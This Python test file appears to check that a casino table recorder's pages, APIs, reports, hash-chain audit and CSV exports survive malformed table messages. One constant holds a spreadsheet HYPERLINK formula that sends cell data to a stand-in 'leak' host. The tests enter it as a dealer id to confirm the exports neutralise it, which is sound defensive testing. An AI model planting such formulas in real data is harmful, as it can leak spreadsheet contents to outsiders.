"""What one table sends, however odd, shows as it can and breaks nobody's page, figure or
audit: the floor, the table page, the API, the report, `records verify` and the exports."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx

from bench.seeder import Seat, Seeder
from table_controller.feed.chain import seal, verifies
from table_controller.feed.payloads import rfc3339
from table_controller.recorder.intake import parse_message
from table_controller.recorder.live import LiveHub
from table_controller.recorder.ratings.chain import findings, verify_all
from table_controller.recorder.ratings.pace import pace
from table_controller.recorder.report import report
from table_controller.recorder.store.backend import Backend
from table_controller.recorder.store.writer import store_batch
from table_controller.recorder.web.serve import serve_pit
from tests.recorder.conftest import ROOT
from tests.web.harness import PASSWORD, USER, make_users

SITE = "main-floor"
FORMULA = '=HYPERLINK("http://elsewhere.example/?leak="&A2,"D-17")'


async def _put(db: Backend, table: str, leaf: str, body: dict[str, Any], at: datetime) -> None:
    full = {"id": str(uuid.uuid4()), "table": table, "site": SITE, "ts": rfc3339(at)} | body
    msg = parse_message(f"casino/{SITE}/table/{table}/{leaf}", json.dumps(full).encode())
    await store_batch(db, [msg], received=rfc3339(at))


@asynccontextmanager
async def _signed_in(db: Backend, tmp_path: Path) -> AsyncIterator[httpx.AsyncClient]:
    users = make_users(tmp_path / "pit-users")
    async with (
        serve_pit(db, LiveHub(), "127.0.0.1:0", users) as url,
        httpx.AsyncClient(base_url=url, timeout=30) as client,
    ):
        r = await client.post("/login", data={"name": USER, "password": PASSWORD, "next": "/"})
        assert r.status_code == 303, r.text
        yield client


async def _answers(client: httpx.AsyncClient, *paths: str) -> dict[str, int]:
    return {p: (await client.get(p)).status_code for p in paths}


async def test_a_latest_the_pages_cannot_read_is_not_kept(db: Backend, tmp_path: Path) -> None:
    """A status with its devices as a list, stats with text for a number, a state position
    without its number, a status with no decks to price: each would have been one table's
    message that answered 500 for the whole floor. The table's readable latest stays."""
    now = datetime.now(UTC) - timedelta(minutes=10)
    good = Seeder(db, table="war-02", start=now)
    await good.round({1: Seat(1000, "lose")})
    await _put(db, "war-02", "status", {"schema": "table-status/1", "online": True}, now)
    odd: list[tuple[str, str, dict[str, Any]]] = [
        ("war-02", "status", {"schema": "table-status/1", "online": False, "devices": []}),
        ("war-02", "status", {"schema": "table-status/1", "online": False, "decks": 0}),
        ("war-03", "stats", {"schema": "table-stats/1", "rounds": 3, "rounds_per_hour": "fast"}),
        ("war-04", "state", {"schema": "table-state/1", "positions": [{"wagers": {}}]}),
    ]
    for table, leaf, body in odd:
        await _put(db, table, leaf, body, now + timedelta(minutes=1))
    newer = {"schema": "table-status/1", "online": True, "in_a_later_version": 1}
    await _put(db, "war-05", "status", newer, now)
    async with _signed_in(db, tmp_path) as client:
        pages = ("/", "/api/tables", "/report", "/api/report", "/api/pace", "/api/sessions")
        got = await _answers(client, *pages, f"/table/{SITE}/war-04")
        assert set(got.values()) == {200}, got
        tables = {t["table"]: t for t in (await client.get("/api/tables")).json()}
    assert tables["war-02"]["status"]["online"] is True  # the readable one, still
    assert tables["war-03"]["stats"] is None
    assert tables["war-05"]["status"]["in_a_later_version"] == 1  # a newer table's, shown


async def test_text_no_database_holds_is_shown_everywhere_it_is_read(
    db: Backend, tmp_path: Path
) -> None:
    """A lone surrogate in a dealer id is U+FFFD on every page and answer: in the round
    record (kept as sent), a dealer_changed and a state."""
    s = Seeder(db, table="war-06")
    await s.round({1: Seat(1000, "win")})
    s.event_seq += 1
    change = s._envelope("table-event/1", s.at) | {"seq": s.event_seq, "round_id": None}
    change |= {"type": "dealer_changed", "dealer": "D-2\ud800"}
    msg = parse_message(f"casino/{SITE}/table/war-06/events", json.dumps(change).encode())
    await store_batch(db, [msg], received=rfc3339(s.at))
    record = s.record({1: Seat(1000, "lose")}) | {"dealer": "D-2\ud800"}
    msg = parse_message(f"casino/{SITE}/table/war-06/rounds", json.dumps(record).encode())
    assert msg.usable  # a round that counts
    await store_batch(db, [msg], received=rfc3339(s.at))
    await _put(db, "war-06", "state", {"schema": "table-state/1", "dealer": "D-2\ud800"}, s.at)
    base = f"/api/tables/{SITE}/war-06/rounds"
    async with _signed_in(db, tmp_path) as client:
        paths = (base, f"{base}/{s.epoch}/2", f"/table/{SITE}/war-06", "/", "/api/tables")
        window = "from=2026-03-01T19:00Z&to=2026-03-01T21:00Z"
        reports = ("/api/report", "/api/pace", f"/report?{window}", f"/api/sessions?{window}")
        got = await _answers(client, *paths, *reports)
        assert set(got.values()) == {200}, got
        shown = (await client.get(base)).json()
    assert shown[0]["dealer"] == "D-2\ufffd"
    paced = await pace(db, site=SITE)
    assert [d["dealer"] for d in paced["dealer_sessions"]] == ["D-2\ufffd"]


async def test_a_record_sealed_over_a_nul_is_no_chain_break(db: Backend) -> None:
    """The table hashed the record as it sent it, the NUL included: the check on arrival
    does too, not the copy shown with U+FFFD (a finding is for ever)."""
    s = Seeder(db, table="war-08", sealed=True)
    await s.round({1: Seat(1000, "win")})
    record = s.record({1: Seat(1000, "lose")})
    bare = {k: v for k, v in record.items() if k not in ("hash", "prev_hash")}
    sealed = seal(bare | {"dealer": "D-1\x00"}, s.records[-1]["hash"])
    assert verifies(sealed)
    msg = parse_message(f"casino/{SITE}/table/war-08/rounds", json.dumps(sealed).encode())
    assert msg.usable
    await store_batch(db, [msg], received=rfc3339(s.at))
    assert (await verify_all(db, found=rfc3339(s.at)))["breaks"] == []
    assert await findings(db) == []


def _records(db_url: str, *what: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "table_controller.cli", "records", "--database", db_url, *what],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )


async def test_the_audit_tools_report_what_they_cannot_hash_and_write_no_formula(
    db: Backend, db_url: str
) -> None:
    """A sealed record that cannot be canonicalised (a lone surrogate) is a break, not a
    traceback; a dealer id keyed as a formula is text in every CSV."""
    s = Seeder(db, table="war-10", sealed=True)
    await s.dealer_changed(FORMULA)
    await s.round({1: Seat(1000, "win")})
    garbled = s.record({1: Seat(1000, "lose")}) | {"dealer": "D-1\ud800"}
    msg = parse_message(f"casino/{SITE}/table/war-10/rounds", json.dumps(garbled).encode())
    await store_batch(db, [msg], received=rfc3339(s.at))
    await s.store(s.record({1: Seat(1000, "win")}) | {"dealer": FORMULA, "hash": None})
    checked = _records(db_url, "--json", "verify")
    assert "Traceback" not in checked.stderr, checked.stderr
    breaks = json.loads(checked.stdout)["breaks"]
    assert {(b["round_id"], b["kind"]) for b in breaks} >= {(2, "hash")}
    for what in (("export",), ("rounds", SITE, "war-10"), ("pace",)):
        out = _records(db_url, "--csv", *what)
        assert out.returncode == 0, out.stderr
        cells = [c for row in csv.reader(io.StringIO(out.stdout)) for c in row]
        assert f"'{FORMULA}" in cells, what
        assert not [c for c in cells if c.startswith(("=", "@", "+"))], what


async def test_one_journal_fault_is_one_alert_and_a_misdeal_stretches_no_hour(
    db: Backend,
) -> None:
    """Raised from memory, then journaled under the same ``alert`` (docs/feed.md): one
    alert in the report. A misdeal before an idle hour adds no hour to rounds per hour,
    which the report and the pace measure alike."""
    at = datetime(2026, 3, 1, 20, tzinfo=UTC)
    alert: dict[str, Any] = {"schema": "table-alert/1", "alert": "A1-20260301T200000Z"}
    alert |= {"code": "JOURNAL_FAULT"}
    alert |= {"severity": "critical", "message": "the journal cannot commit", "round_id": 7}
    alert |= {"position": None, "spot": None, "resolved_by": None}
    await _put(db, "war-01", "alerts", alert, at)
    await _put(db, "war-01", "alerts", alert | {"epoch": "ep", "feed_seq": 1}, at)
    s = Seeder(db, table="war-09", start=at)
    await s.round({}, void=True)
    s.at += timedelta(hours=1)
    for _ in range(30):
        await s.round({1: Seat(1000, "win")})
    shift = await report(db, site=SITE, start=at - timedelta(hours=1), end=s.at)
    assert shift["total"]["alerts_by_code"] == {"JOURNAL_FAULT": 1}
    whole, paced = await report(db, site=SITE), await pace(db, site=SITE)
    row = next(t for t in whole["tables"] if t["table"] == "war-09")
    assert (row["rounds"], row["voids"]) == (30, 1)
    assert row["rounds_per_hour"] == paced["tables"][0]["rounds_per_hour"] == 90.0
